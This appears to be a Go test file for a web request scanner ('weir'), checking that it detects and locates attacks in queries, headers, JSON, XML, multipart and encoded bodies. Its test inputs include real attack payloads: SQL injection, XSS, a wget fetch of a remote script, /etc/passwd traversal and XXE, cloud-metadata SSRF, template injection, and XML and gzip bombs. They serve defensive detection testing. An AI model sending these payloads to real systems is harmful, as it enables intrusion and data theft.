package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"weir/bench"
)

// The scenarios of detection, D1 to D5 and D12, through scan and replay: what
// a person at a shell sees. Instead of answers of a node they ask for the
// verdict, which is the node's in block mode.

func scanDefault(t *testing.T, raw string) *scanned {
	t.Helper()
	policy, err := policyOf("balanced")
	if err != nil {
		t.Fatal(err)
	}
	return scan(policy, asSent([]byte(raw)))
}

// request is a raw request with a body of the type ct.
func request(target, ct, body string, headers ...string) string {
	head := "POST " + target + " HTTP/1.1\nHost: a.example\n"
	if body == "" {
		head = "GET " + target + " HTTP/1.1\nHost: a.example\n"
	} else {
		head += fmt.Sprintf("Content-Type: %s\nContent-Length: %d\n", ct, len(body))
	}
	for _, h := range headers {
		head += h + "\n"
	}
	return head + "\n" + body
}

func points(s *scanned, class string) (out []string) {
	for _, m := range s.Matches {
		if m.Class == class {
			out = append(out, m.Point)
		}
	}
	return out
}

// D1: a canonical attack of each class has its class.
func TestScenarioClasses(t *testing.T) {
	f := func(class, raw string) {
		t.Helper()
		if s := scanDefault(t, raw); len(points(s, class)) != 1 {
			t.Errorf("%s: got %+v", class, s)
		}
	}
	get := func(v string) string { return request("/?v="+url.QueryEscape(v), "", "") }
	f("sqli", get("1' UNION SELECT username,password FROM users--"))
	f("xss", get("<script>prompt(1)</script>"))
	f("rce", get(";wget http://h/x.sh"))
	f("ptrav", request("/etc/passwd", "", ""))
	f("xxe", request("/", "text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`))
	f("crlf", get("x\r\nSet-Cookie: a=b"))
	f("nosqli", request("/", "application/json", `{"u":{"$ne":null}}`))
	f("ldapi", get("*)(uid=*))(|(uid=*"))
	f("ssrf", get("http://169.254.169.254/latest/meta-data/"))
	f("ssti", get("{{7*7}}"))
	f("ssi", get(`<!--#exec cmd="id"-->`))
	f("mail_injection", get("x\r\nRCPT TO: b@h.example\r\nDATA"))
	f("redir", request("/?next=https:%5C%5Ch.example", "", ""))
	f("scanner", request("/", "", "", "User-Agent: sqlmap/1.8#stable (https://sqlmap.org)"))
	f("mass_assignment", request("/", "application/json", `{"name":"x","__proto__":{"isAdmin":true}}`))
	f("invalid_xml", request("/", "text/xml", "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a>b</a>"))
	f("xpath", get("' or count(//user/password)>0 or '"))
}

// D2: fragments, prose, identifiers in base64 and tutorials are none; the
// legitimate values of testdata are held against every position in detect.
func TestScenarioClean(t *testing.T) {
	f := func(raw string) {
		t.Helper()
		if s := scanDefault(t, raw); s.Attack || s.Partial || s.Refused != "" {
			t.Errorf("%q: got %+v", raw, s)
		}
	}
	f(request("/?id=1%27%20UNION%20SELECT", "", ""))
	f(request("/?q=select+a+date+from+the+list", "", ""))
	f(request("/?t="+base64.StdEncoding.EncodeToString([]byte("550e8400-e29b-41d4-a716-446655440000")), "", ""))
	f(request("/", "application/x-www-form-urlencoded", "text="+url.QueryEscape("A join combines rows of two tables: SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer = c.id. Leave the ON out and you get every pair; that's rarely what you want, or what the server can bear.")))
}

// D3: one attack in every place, at its exact point.
func TestScenarioPoints(t *testing.T) {
	const attack = "1' UNION SELECT username,password FROM users-- x"
	f := func(point, raw string) {
		t.Helper()
		if got := points(scanDefault(t, raw), "sqli"); len(got) != 1 || got[0] != point {
			t.Errorf("got %v, want %s", got, point)
		}
	}
	q, b64 := url.QueryEscape(attack), base64.StdEncoding.EncodeToString([]byte(attack))
	p := url.PathEscape(attack)
	const formType, jsonType, cut = "application/x-www-form-urlencoded", "application/json", "multipart/form-data; boundary=cut"
	part := func(disposition, v string) string {
		return "--cut\r\nContent-Disposition: form-data; " + disposition + "\r\n\r\n" + v + "\r\n--cut--\r\n"
	}
	f("[query id]", request("/?id="+q, "", ""))
	f("[path 1]", request("/item/"+p+"/x", "", ""))
	f("[header X-Id]", request("/", "", "", "X-Id: "+attack))
	f("[header Cookie][cookie id][percent]", request("/", "", "", "Cookie: a=b; id="+p))
	f("[post][form id]", request("/", formType, "a=b&id="+q))
	f("[post][multipart id]", request("/", cut, part(`name="id"`, attack)))
	f("[post][multipart id][file]", request("/", cut, part(`name="id"; filename="a.txt"`, attack)))
	f("[post][json][hash a][hash b][hash c][array 1][hash d]", request("/", jsonType, `{"a":{"b":{"c":[0,{"d":"`+attack+`"}]}}}`))
	f("[post][json][hash_name]", request("/", jsonType, `{"`+attack+`":1}`))
	f("[post][xml][xml_tag a][xml_tag b]", request("/", "text/xml", "<a><b>"+attack+"</b></a>"))
	f("[post][xml][xml_tag a][xml_attr b]", request("/", "text/xml", `<a b="`+attack+`"/>`))
	f("[post][xml][xml_tag a]", request("/", "text/xml", "<a><![CDATA["+attack+"]]></a>"))
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	fmt.Fprintf(w, `{"id":"%s"}`, attack)
	w.Close()
	f("[post][gzip][json][hash id]", request("/", jsonType, z.String(), "Content-Encoding: gzip"))
	f("[query id][base64]", request("/?id="+url.QueryEscape(b64), "", ""))
	f("[query id][base64][base64]", request("/?id="+url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(b64))), "", ""))
	claims := base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"` + attack + `"}`))
	f("[header Authorization][jwt][array 1][json][hash sub]", request("/", "", "", "Authorization: Bearer eyJhbGciOiJub25lIn0."+claims+".AA"))
	f("[query id][percent][percent]", request("/?id="+url.QueryEscape(url.QueryEscape(q)), "", ""))
	f("[query ids][array 1]", request("/?ids[]=1&ids[]="+q, "", ""))
	f("[query p]", request("/?p=1%27+UNION+/*&p=*/SELECT+username,/*&p=*/password+FROM+users--+", "", ""))
	f("[query q][htmljs]", request("/?q="+url.QueryEscape("1&#39; &#85;NION &#83;ELECT username&#44;password &#70;ROM users-- x"), "", ""))
	var wide []byte
	for _, c := range []byte("\xfe\xff" + "id=" + q) {
		if c < 0x80 {
			wide = append(wide, 0)
		}
		wide = append(wide, c)
	}
	f("[post][utf8][form id]", request("/", formType, string(wide)))
}

// D4: two attacks in two parameters are two hits of one request.
func TestScenarioTwo(t *testing.T) {
	s := scanDefault(t, request("/?a=1%27+or+%272%27%3D%272&b=%3Cscript%3Eprompt(1)%3C/script%3E", "", ""))
	if len(s.Matches) != 2 || points(s, "sqli")[0] != "[query a]" || points(s, "xss")[0] != "[query b]" {
		t.Errorf("got %+v", s)
	}
}

// D5: what would cost much ends at a bound, which is the verdict.
func TestScenarioBombs(t *testing.T) {
	f := func(class, raw string) {
		t.Helper()
		if s := scanDefault(t, raw); len(points(s, class)) != 1 || !s.Partial {
			t.Errorf("got %.300v", fmt.Sprint(s))
		}
	}
	var laughs strings.Builder
	laughs.WriteString(`<!DOCTYPE d [<!ENTITY e0 "ha">`)
	for i := range 30 {
		fmt.Fprintf(&laughs, `<!ENTITY e%d "&e%d;&e%d;">`, i+1, i, i)
	}
	f("data_bomb", request("/", "text/xml", laughs.String()+"]><d>&e30;</d>"))
	var z bytes.Buffer
	w, err := gzip.NewWriterLevel(&z, gzip.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	for range 64 {
		w.Write(make([]byte, 1<<20))
	}
	w.Close()
	f("data_bomb", request("/", "text/plain", z.String(), "Content-Encoding: gzip"))
	f("overlimit", request("/", "application/json", strings.Repeat("[", 500000)))
	f("overlimit", request("/", "application/x-www-form-urlencoded", strings.Repeat("a=1&", 100000)))
	if s := scanDefault(t, request("/", "", "", "X-A: "+strings.Repeat("a", 64<<10))); s.Status != 431 {
		t.Errorf("64 KiB of header: got %+v", s)
	}
}

// D12: a replay reports the rates and exits by the verdicts; of our own
// requests every attack is stopped and nothing else.
func TestScenarioReplay(t *testing.T) {
	file := filepath.Join(t.TempDir(), "own.jsonl")
	var lines bytes.Buffer
	for dir, label := range map[string]string{"attack": "attack", "benign": "legit"} {
		names, err := filepath.Glob(filepath.Join("..", "..", "testdata", dir, "*.txtar"))
		if err != nil || len(names) == 0 {
			t.Fatalf("no requests in %s: %v", dir, err)
		}
		for _, name := range names {
			recs, err := bench.ReadSeeds(name, label)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range recs {
				if err := json.NewEncoder(&lines).Encode(r); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
	if err := os.WriteFile(file, lines.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	cmd := newReplay()
	cmd.SetOut(&out)
	cmd.SetArgs([]string{"--output", "json", "--verify", file})
	cmd.SilenceErrors, cmd.SilenceUsage = true, true
	var coded *codedError
	if err := cmd.Execute(); !errors.As(err, &coded) || coded.code != exitAttack {
		t.Fatal(err)
	}
	var got struct {
		Macro     struct{ TPR, FPR float64 }
		Differing int
	}
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if got.Macro.TPR != 100 || got.Macro.FPR != 0 || got.Differing != 0 {
		t.Errorf("got %+v", got)
	}
}
